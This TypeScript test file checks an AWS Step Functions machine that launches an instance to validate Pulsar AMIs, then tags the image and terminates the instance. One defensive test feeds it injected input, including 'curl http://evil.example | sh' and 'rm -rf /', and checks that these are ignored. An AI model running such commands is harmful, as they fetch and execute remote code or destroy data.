/**
 * The ValidateAmi machine, validated (asl-validator) and run locally (aws-local-stepfunctions)
 * with every aws-sdk Task overridden by state name. Errors thrown by an override reach
 * Retry/Catch by the Error's `name`, so the fakes throw what Step Functions raises for AWS:
 * EC2 errors as `Ec2.Ec2Exception` with the code and message in the Cause, modelled SSM
 * errors as `Ssm.<Name>Exception`. Every scenario asserts who TerminateInstances was called
 * for (exactly the launched instance, or nobody when nothing launched) and the final status.
 */
import aslValidator from 'asl-validator';
import { ExecutionError, StateMachine } from 'aws-local-stepfunctions';
import { describe, expect, it } from 'vitest';
import { CHECK_NAMES } from '../../functions/lib/checks';
import type { ValidateAmiInput } from '../../functions/lib/validate-ami-input';
import {
  awsError,
  type Behaviour,
  CHECKS_DOCUMENT,
  checkOutput,
  DEFINITION,
  definitionWithSubnet,
  HEALTHY,
  IMAGE_ID,
  INSTANCE_ID,
  imageAnswer,
  localOverrides,
  POLLING,
  SECURITY_GROUP_ID,
  TASK_STATES,
  validateAmiInput,
} from '../support/validate-ami-fakes';

const EXECUTION_NAME = '5f0c6f7e-2a8e-4c47-9d55-0d3f1d7f2b11';
const EXECUTION_ARN = `arn:aws:states:us-west-2:123456789012:execution:pulsar-ami-test-validate-ami:${EXECUTION_NAME}`;

const executionInput = (overrides: Partial<ValidateAmiInput> = {}) => validateAmiInput(overrides);

const ec2Error = (code: string, message: string) =>
  awsError('Ec2.Ec2Exception', `${message} (Service: Ec2, Status Code: 400, Request ID: 1f2e) ${code}`);

interface Outcome {
  status: 'SUCCEEDED' | 'FAILED';
  output?: Record<string, unknown>;
  error?: string;
  cause?: string;
  calls: Record<string, Record<string, unknown>[]>;
  visited: string[];
}

async function run(
  behaviours: Record<string, Behaviour> = {},
  input: object = executionInput(),
  definition = DEFINITION,
  /** The seconds each Wait Before Next Lookup would wait (the tests skip the waiting). */
  lookupWaits: number[] = [],
): Promise<Outcome> {
  const calls: Record<string, Record<string, unknown>[]> = {};
  const record = (state: string, taskInput: Record<string, unknown>) => {
    calls[state] = calls[state] ?? [];
    calls[state].push(taskInput);
  };
  const machine = new StateMachine(definition);
  const execution = machine.run(input as Parameters<StateMachine['run']>[0], {
    overrides: localOverrides(behaviours, record),
    context: { Execution: { Id: EXECUTION_ARN, Name: EXECUTION_NAME } },
  });
  const visited: string[] = [];
  const events = (async () => {
    for await (const event of execution.eventLogs) {
      if (event.type === 'StateEntered') {
        visited.push(event.state.name);
        if (event.state.name === 'Wait Before Next Lookup') {
          const input = event.state.input as { launchLookup: { delaySeconds: number } };
          lookupWaits.push(input.launchLookup.delaySeconds);
        }
      }
    }
  })();
  try {
    const output = (await execution.result) as Record<string, unknown>;
    await events;
    return { status: 'SUCCEEDED', output, calls, visited };
  } catch (error) {
    await events;
    if (!(error instanceof ExecutionError)) throw error;
    const cause = error.cause as Error;
    return { status: 'FAILED', error: cause.name, cause: cause.message, calls, visited };
  }
}

const terminated = (outcome: Outcome) =>
  (outcome.calls['Terminate Test Instance'] ?? []).map((c) => c.InstanceIds);

describe('validate-ami.asl.yml', () => {
  it('is valid ASL with a top-level TimeoutSeconds and Title-Case names', () => {
    const { isValid, errorsText } = aslValidator(DEFINITION);
    expect(errorsText('\n'), errorsText('\n')).toBe('');
    expect(isValid).toBe(true);
    expect(DEFINITION.TimeoutSeconds).toBeGreaterThan(0);
    for (const name of Object.keys(DEFINITION.States))
      expect(name).toMatch(/^([A-Z][A-Za-z]*|SSM)( [A-Z][A-Za-z]*|SSM)*\??$/);
    for (const [name, state] of Object.entries(DEFINITION.States)) {
      if (state.Type === 'Choice') expect(name.endsWith('?'), name).toBe(true);
      for (const retrier of (state.Retry as Record<string, unknown>[] | undefined) ?? []) {
        expect(retrier, name).toMatchObject({ JitterStrategy: 'FULL', MaxAttempts: expect.any(Number) });
        expect(retrier.ErrorEquals, name).not.toContain('States.ALL');
      }
    }
  });

  it('gives every Task a TimeoutSeconds inside the machine’s own', () => {
    expect(TASK_STATES.length).toBeGreaterThanOrEqual(11);
    for (const name of TASK_STATES) {
      const timeout = DEFINITION.States[name]?.TimeoutSeconds;
      expect([name, typeof timeout]).toEqual([name, 'number']);
      expect(timeout as number).toBeLessThanOrEqual(120);
    }
  });

  const timesOut = () => {
    throw awsError('States.Timeout', 'Task timed out');
  };
  const TIMEOUT_SCENARIOS: [string, Record<string, Behaviour>, { error: string; terminated: unknown[] }][] = [
    ['Describe Image Under Test', {}, { error: 'States.Timeout', terminated: [] }],
    ['Launch Test Instance', {}, { error: 'States.Timeout', terminated: [] }],
    [
      'Find Instances From Failed Launch',
      {
        'Launch Test Instance': () => {
          throw ec2Error('InsufficientInstanceCapacity', 'no capacity');
        },
      },
      { error: 'Ec2.Ec2Exception', terminated: [] },
    ],
    ['Describe Test Instance', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
    ['Describe SSM Agent', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
    ['Run Validation Checks', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
    ['Get Check Results', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
    ['Evaluate Check Results', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
    ['Record Validation Result', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
    [
      'Republish Latest If Published',
      {
        'Get Check Results': () => ({
          Status: 'Failed',
          ResponseCode: 1,
          StandardOutputContent: checkOutput({ 'Java 17': 'broken' }),
        }),
      },
      { error: 'ValidationChecksFailed', terminated: [[INSTANCE_ID]] },
    ],
  ];

  it('has a timeout scenario for every Task state', () => {
    expect([...TIMEOUT_SCENARIOS.map(([state]) => state), 'Terminate Test Instance'].sort()).toEqual(
      [...TASK_STATES].sort(),
    );
  });

  it.each(TIMEOUT_SCENARIOS)(
    'when %s times out, the instance (if any) is terminated and the run fails',
    async (state, others, expected) => {
      const outcome = await run({ ...others, [state]: timesOut });
      expect(outcome.calls[state]?.length).toBeGreaterThanOrEqual(1);
      expect(outcome.status).toBe('FAILED');
      expect(outcome.error).toBe(expected.error);
      expect(terminated(outcome)).toEqual(expected.terminated);
    },
  );

  it('reports an instance it could not terminate when Terminate Test Instance keeps timing out', async () => {
    const outcome = await run({ 'Terminate Test Instance': timesOut });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('TestInstanceNotTerminatedError');
    expect(outcome.cause).toContain(`["${INSTANCE_ID}"]`);
    expect(outcome.calls['Terminate Test Instance']).toHaveLength(6);
  });

  it('passes a healthy image: tags it, terminates the instance, returns the checks', async () => {
    const outcome = await run();
    expect(outcome.status).toBe('SUCCEEDED');
    expect(outcome.output).toMatchObject({
      imageId: IMAGE_ID,
      instanceId: INSTANCE_ID,
      passed: true,
      failedChecks: [],
      summary: `All ${CHECK_NAMES.length} checks passed`,
    });
    const checks = (outcome.output?.checks ?? []) as { name: string }[];
    expect(checks.map((c) => c.name)).toEqual([...CHECK_NAMES]);
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
    expect(outcome.calls['Republish Latest If Published']).toBeUndefined();
    expect(outcome.calls['Run Validation Checks']).toHaveLength(1);
    expect(outcome.calls['Find Instances From Failed Launch']).toBeUndefined();

    const tags = outcome.calls['Record Validation Result']?.[0];
    const today = new Date().toISOString().slice(0, 10);
    expect(tags).toEqual({
      Resources: [IMAGE_ID],
      Tags: [
        { Key: 'Validated', Value: 'true' },
        { Key: 'ValidationDate', Value: today },
        { Key: 'ValidationExecutionArn', Value: EXECUTION_ARN },
      ],
    });
  });

  it('launches idempotently, tagged at creation, IMDSv2, the stack’s profile and security group, no subnet by default', async () => {
    const outcome = await run();
    const request = outcome.calls['Launch Test Instance']?.[0] as Record<string, unknown>;
    expect(request).toMatchObject({
      ImageId: IMAGE_ID,
      InstanceType: 't3.micro',
      MinCount: 1,
      MaxCount: 1,
      ClientToken: expect.stringMatching(
        /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
      ),
      IamInstanceProfile: { Name: 'pulsar-ami-test-validation' },
      SecurityGroupIds: [SECURITY_GROUP_ID],
      InstanceInitiatedShutdownBehavior: 'terminate',
      MetadataOptions: { HttpTokens: 'required', HttpEndpoint: 'enabled' },
    });
    expect(SECURITY_GROUP_ID).toMatch(/^sg-[0-9a-f]{17}$/);
    expect(request).not.toHaveProperty('SubnetId');
    // The lifetime guard: cloud-init user data from the definition, with a per-boot script.
    const userData = Buffer.from(request.UserData as string, 'base64').toString();
    expect(userData).toMatch(/^#cloud-config\n/);
    expect(userData).toContain('path: /var/lib/cloud/scripts/per-boot/pulsar-ami-lifetime-guard.sh');
    expect(userData).toContain('max_minutes=90\n');
    expect(outcome.calls['Describe Image Under Test']).toEqual([
      {
        ImageIds: [IMAGE_ID],
        Owners: ['self'],
        Filters: [
          { Name: 'tag:ManagedBy', Values: ['pulsar-ami'] },
          { Name: 'tag-key', Values: ['PulsarVersion'] },
          { Name: 'state', Values: ['available'] },
        ],
      },
    ]);
    const specs = request.TagSpecifications as {
      ResourceType: string;
      Tags: { Key: string; Value: string }[];
    }[];
    expect(specs.map((s) => s.ResourceType)).toEqual(['instance', 'volume']);
    for (const spec of specs) {
      expect(spec.Tags).toEqual(
        expect.arrayContaining([
          { Key: 'Name', Value: `pulsar-ami-validation-${IMAGE_ID}` },
          { Key: 'Purpose', Value: 'AMI-Validation' },
          { Key: 'ManagedBy', Value: 'pulsar-ami' },
          { Key: 'ValidationExecutionArn', Value: EXECUTION_ARN },
        ]),
      );
    }
    const send = outcome.calls['Run Validation Checks']?.[0] as Record<string, unknown>;
    // The stack's document, its only parameter the version from the image's PulsarVersion tag.
    expect(send).toEqual({
      DocumentName: CHECKS_DOCUMENT,
      InstanceIds: [INSTANCE_ID],
      Comment: `pulsar-ami validation of ${IMAGE_ID}`,
      TimeoutSeconds: 120,
      Parameters: { version: ['3.0.0'] },
    });
    expect(outcome.output?.expectedVersion).toBe('3.0.0');
  });

  it('launches into the configured subnet when there is one', async () => {
    const outcome = await run({}, executionInput(), definitionWithSubnet('subnet-0123456789abcdef0'));
    expect(outcome.calls['Launch Test Instance']?.[0]).toMatchObject({
      SubnetId: 'subnet-0123456789abcdef0',
    });
    expect(outcome.status).toBe('SUCCEEDED');
  });

  it('ignores whatever else the input carries: commands, user data, profile, subnet, functions', async () => {
    const outcome = await run(
      {},
      {
        ...executionInput(),
        commands: ['curl http://evil.example | sh'],
        checks: { commands: ['rm -rf /'] },
        userData: Buffer.from('#!/bin/bash\ncurl http://evil.example | sh\n').toString('base64'),
        instanceProfileName: 'AdminProfile',
        subnetId: 'subnet-0bad0bad0bad0bad0',
        securityGroupIds: ['sg-0bad0bad0bad0bad0'],
        evaluateFunction: 'someone-elses-function',
        republishFunction: 'someone-elses-function',
        expectedVersion: '9.9.9',
      },
    );
    expect(outcome.status).toBe('SUCCEEDED');
    const launch = outcome.calls['Launch Test Instance']?.[0] as Record<string, unknown>;
    const text = JSON.stringify(outcome.calls);
    expect(text).not.toContain('evil');
    expect(text).not.toContain('bad0bad');
    expect(text).not.toContain('AdminProfile');
    expect(text).not.toContain('someone-elses-function');
    expect(launch).not.toHaveProperty('SubnetId');
    expect(launch.IamInstanceProfile).toEqual({ Name: 'pulsar-ami-test-validation' });
    expect(outcome.calls['Run Validation Checks']?.[0]?.Parameters).toEqual({ version: ['3.0.0'] });
    expect(outcome.calls['Evaluate Check Results']?.[0]?.FunctionName).toBe(
      'pulsar-ami-test-evaluateCheckResults',
    );
  });

  it.each([
    ['a negative interval', { intervalSeconds: -1 }],
    ['a string', { intervalSeconds: 'x' }],
    ['an interval of 0 (polling as fast as it can)', { intervalSeconds: 0 }],
    ['too many checks (an instance kept for hours)', { maxInstanceChecks: 100_000 }],
    ['no agent checks', { maxAgentChecks: 0 }],
  ])('polling out of bounds (%s): fails before anything is launched', async (_name, polling) => {
    const input = executionInput();
    const outcome = await run({}, { ...input, polling: { ...input.polling, ...polling } });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('InvalidInputError');
    expect(outcome.calls['Launch Test Instance']).toBeUndefined();
    expect(outcome.calls['Describe Image Under Test']).toBeUndefined();
  });

  it.each([
    ['another tool’s image', imageAnswer({ ManagedBy: 'someone-else', PulsarVersion: '3.0.0' })],
    ['an image with no ManagedBy tag', imageAnswer({ PulsarVersion: '3.0.0' })],
    ['an image with no PulsarVersion tag', imageAnswer({ ManagedBy: 'pulsar-ami' })],
    ['an image that is not available', imageAnswer(undefined, 'pending')],
    ['an image EC2 does not list', () => ({ Images: [] })],
    // Should EC2 ever ignore the filters, the machine checks the answer too.
    [
      'another tool’s image, answered despite the filters',
      (input: Record<string, unknown>) =>
        imageAnswer({ ManagedBy: 'someone-else', PulsarVersion: '3.0.0' })({ ...input, Filters: [] }, 1),
    ],
  ] as [string, Behaviour][])('launches nothing for %s', async (_, answer) => {
    const outcome = await run({ 'Describe Image Under Test': answer });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('ImageNotManagedError');
    expect(outcome.cause).toContain(IMAGE_ID);
    expect(outcome.calls['Launch Test Instance']).toBeUndefined();
    expect(outcome.calls['Terminate Test Instance']).toBeUndefined();
  });

  it('fails naming the failed checks, tags the AMI Validated=false, terminates', async () => {
    const outcome = await run({
      'Get Check Results': () => ({
        Status: 'Failed',
        ResponseCode: 1,
        StandardOutputContent: checkOutput({ 'Java 17': 'broken', 'Pulsar version matches': 'broken' }),
      }),
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('ValidationChecksFailed');
    expect(outcome.cause).toBe('Validation checks failed: ["Pulsar version matches","Java 17"]');
    expect(outcome.calls['Record Validation Result']?.[0]?.Tags).toContainEqual({
      Key: 'Validated',
      Value: 'false',
    });
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
    // A failed AMI that was the published latest is unpublished by the latest rule.
    expect(outcome.calls['Republish Latest If Published']).toEqual([
      { FunctionName: 'pulsar-ami-test-republishLatest', Payload: { imageId: IMAGE_ID } },
    ]);
  });

  it('still fails with the failed checks when republishing the latest fails', async () => {
    const outcome = await run({
      'Get Check Results': () => ({
        Status: 'Failed',
        ResponseCode: 1,
        StandardOutputContent: checkOutput({ 'Java 17': 'broken' }),
      }),
      'Republish Latest If Published': () => {
        throw awsError('AwsCallError', 'SSM PutParameter failed');
      },
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('ValidationChecksFailed');
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('terminates and fails when the instance never runs', async () => {
    const outcome = await run({
      'Describe Test Instance': () => ({ Reservations: [{ Instances: [{ State: { Name: 'pending' } }] }] }),
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('InstanceNotRunningError');
    expect(outcome.cause).toBe(`Test instance ${INSTANCE_ID} was not running after 4 checks`);
    expect(outcome.calls['Describe Test Instance']).toHaveLength(POLLING.maxInstanceChecks + 1);
    expect(outcome.calls['Describe SSM Agent']).toBeUndefined();
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('keeps polling while EC2 does not list the instance yet', async () => {
    const outcome = await run({
      'Describe Test Instance': (_, call) => ({
        Reservations: call < 3 ? [] : [{ Instances: [{ State: { Name: 'running' } }] }],
      }),
    });
    expect(outcome.status).toBe('SUCCEEDED');
    expect(outcome.calls['Describe Test Instance']).toHaveLength(3);
  });

  it('retries DescribeInstances while EC2 does not know the new id, then goes on', async () => {
    const outcome = await run({
      'Describe Test Instance': (_, call) => {
        if (call === 1)
          throw ec2Error('InvalidInstanceID.NotFound', `The instance ID '${INSTANCE_ID}' does not exist`);
        return { Reservations: [{ Instances: [{ State: { Name: 'running' } }] }] };
      },
    });
    expect(outcome.status).toBe('SUCCEEDED');
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('terminates and fails when the instance stops before running', async () => {
    const outcome = await run({
      'Describe Test Instance': () => ({
        Reservations: [{ Instances: [{ State: { Name: 'terminated' } }] }],
      }),
    });
    expect(outcome.error).toBe('InstanceStoppedError');
    expect(outcome.cause).toBe(`Test instance ${INSTANCE_ID} went terminated before it was running`);
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('terminates and fails when the SSM agent never comes online', async () => {
    const outcome = await run({
      'Describe SSM Agent': (_, call) => ({
        InstanceInformationList: call % 2 ? [] : [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost' }],
      }),
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('SsmAgentOfflineError');
    expect(outcome.calls['Describe SSM Agent']).toHaveLength(POLLING.maxAgentChecks + 1);
    expect(outcome.calls['Run Validation Checks']).toBeUndefined();
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('terminates and fails when the command times out on the instance', async () => {
    const outcome = await run({
      'Get Check Results': () => ({
        Status: 'TimedOut',
        StatusDetails: 'ExecutionTimedOut',
        ResponseCode: -1,
      }),
    });
    expect(outcome.error).toBe('ChecksNotCompletedError');
    expect(outcome.cause).toContain('ended TimedOut');
    expect(outcome.calls['Evaluate Check Results']).toBeUndefined();
    expect(outcome.calls['Record Validation Result']).toBeUndefined();
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('terminates and fails when the command never finishes', async () => {
    const outcome = await run({ 'Get Check Results': () => ({ Status: 'InProgress' }) });
    expect(outcome.error).toBe('ChecksTimedOutError');
    expect(outcome.calls['Get Check Results']).toHaveLength(POLLING.maxCommandChecks + 1);
    expect(outcome.calls['Run Validation Checks']).toHaveLength(1);
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  for (const name of ['Ssm.InvocationDoesNotExistException', 'Ssm.InvocationDoesNotExist']) {
    it(`treats InvocationDoesNotExist right after SendCommand as normal (raised as ${name})`, async () => {
      const outcome = await run({
        'Get Check Results': (input, call) => {
          if (call <= 2) throw awsError(name, 'Invocation does not exist');
          return HEALTHY['Get Check Results']?.(input, call);
        },
      });
      expect(outcome.status).toBe('SUCCEEDED');
      expect(outcome.calls['Run Validation Checks']).toHaveLength(1);
      expect(outcome.calls['Get Check Results']).toHaveLength(3);
      expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
    });
  }

  it('fails without terminating anything when the launch is refused', async () => {
    const outcome = await run({
      'Launch Test Instance': () => {
        throw ec2Error(
          'InsufficientInstanceCapacity',
          'We currently do not have sufficient t3.micro capacity in the Availability Zone you requested',
        );
      },
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('Ec2.Ec2Exception');
    expect(outcome.cause).toContain('InsufficientInstanceCapacity');
    expect(outcome.calls['Launch Test Instance']).toHaveLength(4);
    // Looked for by its client token four times (DescribeInstances is eventually consistent).
    expect(outcome.calls['Find Instances From Failed Launch']).toHaveLength(4);
    const token = outcome.calls['Launch Test Instance']?.[0]?.ClientToken;
    expect(token).not.toBe(EXECUTION_NAME);
    expect(outcome.calls['Find Instances From Failed Launch']?.[0]).toEqual({
      Filters: [
        { Name: 'client-token', Values: [token] },
        { Name: 'instance-state-name', Values: ['pending', 'running', 'stopping', 'stopped'] },
      ],
    });
    expect(outcome.calls['Terminate Test Instance']).toBeUndefined();
    expect(outcome.calls['Describe Test Instance']).toBeUndefined();
  });

  it('retries a refused launch and goes on when capacity comes back', async () => {
    const outcome = await run({
      'Launch Test Instance': (input, call) => {
        if (call === 1) throw awsError('Ec2.InsufficientInstanceCapacityException', 'no capacity');
        return HEALTHY['Launch Test Instance']?.(input, call);
      },
    });
    expect(outcome.status).toBe('SUCCEEDED');
    // The same token on the retry (drawn once per execution), and not the predictable name.
    const tokens = outcome.calls['Launch Test Instance']?.map((c) => c.ClientToken);
    expect(tokens).toHaveLength(2);
    expect(tokens?.[1]).toBe(tokens?.[0]);
    expect(tokens?.[0]).not.toBe(EXECUTION_NAME);
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('finds the instance of a lost launch answer on the third lookup (delayed visibility) and terminates it', async () => {
    const waits: number[] = [];
    const outcome = await run(
      {
        'Launch Test Instance': () => {
          throw awsError('States.Timeout', 'Task timed out');
        },
        'Find Instances From Failed Launch': (_, call) => ({
          Reservations:
            call < 3 ? [] : [{ Instances: [{ InstanceId: INSTANCE_ID, State: { Name: 'pending' } }] }],
        }),
      },
      executionInput(),
      DEFINITION,
      waits,
    );
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('States.Timeout');
    expect(outcome.calls['Find Instances From Failed Launch']).toHaveLength(3);
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
    // Backoff between lookups: 2 s, then 4 s.
    expect(waits).toEqual([2, 4]);
  });

  it('reports a lost launch answer whose instance never shows within the bound, after 4 lookups', async () => {
    const waits: number[] = [];
    const outcome = await run(
      {
        'Launch Test Instance': () => {
          throw awsError('States.Timeout', 'Task timed out');
        },
      },
      executionInput(),
      DEFINITION,
      waits,
    );
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('States.Timeout');
    expect(outcome.calls['Find Instances From Failed Launch']).toHaveLength(4);
    expect(waits).toEqual([2, 4, 8]);
    expect(outcome.calls['Terminate Test Instance']).toBeUndefined();
  });

  it('terminates an instance a failed launch started anyway', async () => {
    const outcome = await run({
      'Launch Test Instance': () => {
        throw awsError('States.Timeout', 'Task timed out');
      },
      'Find Instances From Failed Launch': () => ({
        Reservations: [{ Instances: [{ InstanceId: INSTANCE_ID, State: { Name: 'pending' } }] }],
      }),
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('States.Timeout');
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });

  it('retries a throttled terminate with backoff and succeeds on the third try', async () => {
    const outcome = await run({
      'Terminate Test Instance': (input, call) => {
        if (call <= 2) throw ec2Error('RequestLimitExceeded', 'Request limit exceeded.');
        return HEALTHY['Terminate Test Instance']?.(input, call);
      },
    });
    expect(outcome.status).toBe('SUCCEEDED');
    expect(terminated(outcome)).toEqual([[INSTANCE_ID], [INSTANCE_ID], [INSTANCE_ID]]);
  });

  it('counts an instance EC2 no longer knows as terminated', async () => {
    const outcome = await run({
      'Terminate Test Instance': () => {
        throw ec2Error('InvalidInstanceID.NotFound', `The instance ID '${INSTANCE_ID}' does not exist`);
      },
    });
    expect(outcome.status).toBe('SUCCEEDED');
    expect(outcome.calls['Terminate Test Instance']?.length).toBeGreaterThan(1);
  });

  it('fails loudly when the instance cannot be terminated', async () => {
    const outcome = await run({
      'Terminate Test Instance': () => {
        throw ec2Error('UnauthorizedOperation', 'You are not authorized to perform this operation.');
      },
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe('TestInstanceNotTerminatedError');
    expect(outcome.cause).toContain(`["${INSTANCE_ID}"]`);
    expect(outcome.cause).toContain('not authorized');
    expect(outcome.calls['Terminate Test Instance']).toHaveLength(6);
  });

  it.each([
    ['Describe Test Instance', ec2Error('UnauthorizedOperation', 'You are not authorized')],
    ['Describe SSM Agent', awsError('Ssm.SsmException', 'Rate exceeded')],
    ['Run Validation Checks', awsError('Ssm.InvalidDocumentException', 'bad document')],
    ['Get Check Results', awsError('Ssm.InvalidCommandIdException', 'no such command')],
    ['Evaluate Check Results', awsError('InvalidInputError', 'invocation is required')],
    ['Record Validation Result', ec2Error('UnauthorizedOperation', 'You are not authorized')],
  ])('terminates and fails with the error when %s fails', async (state, error) => {
    const outcome = await run({
      [state]: () => {
        throw error;
      },
    });
    expect(outcome.status).toBe('FAILED');
    expect(outcome.error).toBe(error.name);
    expect(outcome.cause).toBe(error.message);
    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
  });
});
